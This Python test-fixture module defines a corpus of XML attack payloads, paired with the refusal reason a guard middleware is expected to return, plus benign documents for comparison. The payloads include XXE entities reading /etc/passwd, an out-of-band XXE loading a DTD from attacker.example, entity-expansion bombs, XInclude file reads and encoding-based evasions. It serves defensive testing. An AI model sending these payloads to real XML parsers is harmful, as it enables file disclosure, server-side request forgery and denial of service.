"""The XML attack corpus and the benign documents, shared by the tests and bench/bench_xml.py.

Every attack is refused through both the guard middleware and the parse API, with the ``reason``
given here (the error class's slug and the problem ``type`` suffix). ``sniffable`` attacks start
like XML (``<?`` or ``<!``), so the guard must catch them whatever the Content-Type.
"""

from __future__ import annotations

from dataclasses import dataclass

DTD = "xml-dtd-forbidden"
ENCODING = "xml-encoding-refused"
XINCLUDE = "xml-xinclude-forbidden"
TOO_DEEP = "xml-too-deep"


@dataclass(frozen=True, kw_only=True)
class Attack:
    name: str
    body: bytes
    reason: str
    sniffable: bool = True


PROLOG = b'<?xml version="1.0" encoding="UTF-8"?>\n'

_FILE_XXE = b'<!DOCTYPE order [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>\n<order><note>&xxe;</note></order>'
_HTTP_XXE = b'<!DOCTYPE order [<!ENTITY xxe SYSTEM "http://127.0.0.1:9/secret">]>\n<order>&xxe;</order>'
_PARAMETER = (
    b'<!DOCTYPE order [<!ENTITY % file SYSTEM "file:///etc/hostname">'
    b"<!ENTITY % wrap \"<!ENTITY leak '%file;'>\">%wrap;]>\n<order>&leak;</order>"
)
_OUT_OF_BAND = (
    b'<!DOCTYPE order [<!ENTITY % remote SYSTEM "http://attacker.example/evil.dtd">%remote;%send;]>\n'
    b"<order>x</order>"
)
_LAUGHS = (
    b'<!DOCTYPE lolz [<!ENTITY lol "lol">'
    + b"".join(
        b'<!ENTITY lol%d "%s">'
        % (i, b"".join(b"&lol%s;" % (str(i - 1).encode() if i > 1 else b"") for _ in range(10)))
        for i in range(1, 10)
    )
    + b"]>\n<lolz>&lol9;</lolz>"
)
_QUADRATIC = b'<!DOCTYPE bomb [<!ENTITY a "' + b"A" * 50_000 + b'">]>\n<bomb>' + b"&a;" * 50_000 + b"</bomb>"
_EXTERNAL_DTD = b'<!DOCTYPE order SYSTEM "http://attacker.example/order.dtd">\n<order/>'
_PUBLIC_DTD = b'<!DOCTYPE order PUBLIC "-//A//DTD A//EN" "file:///etc/passwd">\n<order/>'
_XINCLUDE = (
    b'<order xmlns:xi="http://www.w3.org/2001/XInclude">'
    b'<note><xi:include href="file:///etc/passwd" parse="text"/></note></order>'
)
_XINCLUDE_2003 = b'<order xmlns="http://www.w3.org/2003/XInclude"><include href="/etc/passwd"/></order>'
_AFTER_COMMENTS = b"<!-- an order -->\n<?process this?>\n<!-- more -->\n" + _FILE_XXE
_DEEP = b"<a>" * 5_000 + b"</a>" * 5_000
_UTF7_BODY = (
    b'<?xml version="1.0" encoding="UTF-7"?>\n'
    b"+ADwAIQ-DOCTYPE order +AFsAPAAh-ENTITY xxe SYSTEM +ACI-file:///etc/passwd+ACIAPgBd-+AD4-\n"
    b"+ADw-order+AD4AJg-xxe;+ADw-/order+AD4-"
)
_UTF16_TEXT = '<?xml version="1.0" encoding="UTF-16"?>\n' + _FILE_XXE.decode()
_EBCDIC_TEXT = '<?xml version="1.0" encoding="IBM037"?>\n' + _FILE_XXE.decode()

ATTACKS: tuple[Attack, ...] = (
    Attack(name="xxe-file", body=PROLOG + _FILE_XXE, reason=DTD),
    Attack(name="xxe-file-no-prolog", body=_FILE_XXE, reason=DTD),
    Attack(name="xxe-http", body=PROLOG + _HTTP_XXE, reason=DTD),
    Attack(name="xxe-parameter-entities", body=PROLOG + _PARAMETER, reason=DTD),
    Attack(name="xxe-out-of-band", body=PROLOG + _OUT_OF_BAND, reason=DTD),
    Attack(name="billion-laughs", body=PROLOG + _LAUGHS, reason=DTD),
    Attack(name="quadratic-blowup", body=PROLOG + _QUADRATIC, reason=DTD),
    Attack(name="external-dtd-system", body=PROLOG + _EXTERNAL_DTD, reason=DTD),
    Attack(name="external-dtd-public", body=_PUBLIC_DTD, reason=DTD),
    Attack(name="xinclude", body=PROLOG + _XINCLUDE, reason=XINCLUDE),
    Attack(name="xinclude-bare", body=_XINCLUDE, reason=XINCLUDE, sniffable=False),
    Attack(name="xinclude-2003-default-namespace", body=_XINCLUDE_2003, reason=XINCLUDE, sniffable=False),
    Attack(name="doctype-after-comments-and-pis", body=_AFTER_COMMENTS, reason=DTD),
    Attack(name="doctype-after-prolog-comment", body=PROLOG + _AFTER_COMMENTS, reason=DTD),
    Attack(name="deep-nesting", body=_DEEP, reason=TOO_DEEP, sniffable=False),
    Attack(name="deep-nesting-with-prolog", body=PROLOG + _DEEP, reason=TOO_DEEP),
    Attack(name="utf16-bom-xxe", body=_UTF16_TEXT.encode("utf-16"), reason=DTD),
    Attack(name="utf16be-no-bom-xxe", body=_UTF16_TEXT.encode("utf-16-be"), reason=DTD),
    Attack(name="utf16le-no-bom-xxe", body=_UTF16_TEXT.encode("utf-16-le"), reason=DTD),
    Attack(
        name="utf16-bom-whitespace-first", body=("\n  " + _FILE_XXE.decode()).encode("utf-16"), reason=DTD
    ),
    Attack(name="utf7-declared", body=_UTF7_BODY, reason=ENCODING),
    Attack(name="utf7-bom", body=b"+/v8-" + _UTF7_BODY.split(b"\n", 1)[1], reason=ENCODING),
    Attack(name="utf32-bom", body=_UTF16_TEXT.replace("UTF-16", "UTF-32").encode("utf-32"), reason=ENCODING),
    Attack(name="utf32be-no-bom", body=_FILE_XXE.decode().encode("utf-32-be"), reason=ENCODING),
    Attack(name="ebcdic", body=_EBCDIC_TEXT.encode("cp037"), reason=ENCODING),
    Attack(
        name="declared-shift-jis", body=b'<?xml version="1.0" encoding="Shift_JIS"?><order/>', reason=ENCODING
    ),
    Attack(
        name="utf8-bytes-declared-utf16",
        body=b'<?xml version="1.0" encoding="UTF-16"?>' + _FILE_XXE,
        reason=ENCODING,
    ),
)

#: Well-formed, legal documents: they must reach the app byte for byte.
BENIGN: tuple[tuple[str, bytes], ...] = (
    ("order", b"<order><item>apple</item><item>pear</item><note>ring twice</note></order>"),
    ("prolog-and-comment", PROLOG + b"<!-- hello -->\n<?app keep?>\n<order><item>x</item></order>\n"),
    (
        "namespaces",
        PROLOG
        + b'<s:Envelope xmlns:s="http://schemas.xmlsoap.org/soap/envelope/" xmlns:o="urn:orders">'
        + b'<s:Body><o:order o:id="1"><o:item>a</o:item></o:order></s:Body></s:Envelope>',
    ),
    ("cdata", b"<order><note><![CDATA[<!DOCTYPE not-a-dtd> & <xi:include/> ]]></note></order>"),
    ("predefined-entities", b"<order><note>&lt;&gt;&amp;&apos;&quot;&#169;&#x1F600;</note></order>"),
    ("utf16", '<?xml version="1.0" encoding="UTF-16"?><order><note>żółw</note></order>'.encode("utf-16")),
    (
        "latin1",
        '<?xml version="1.0" encoding="ISO-8859-1"?><order><note>café</note></order>'.encode("latin-1"),
    ),
    ("utf8-bom", "\ufeff<order><note>naïve</note></order>".encode()),
    (
        "large",
        PROLOG
        + b"<orders>"
        + b"".join(
            b'<order id="%d"><item>widget %d</item><note>n</note></order>\n' % (i, i) for i in range(20_000)
        )
        + b"</orders>",
    ),
    ("depth-60", b"<a>" * 60 + b"x" + b"</a>" * 60),
)


def nested(depth: int) -> bytes:
    return b"<a>" * depth + b"</a>" * depth


__all__ = ["ATTACKS", "BENIGN", "PROLOG", "Attack", "nested"]
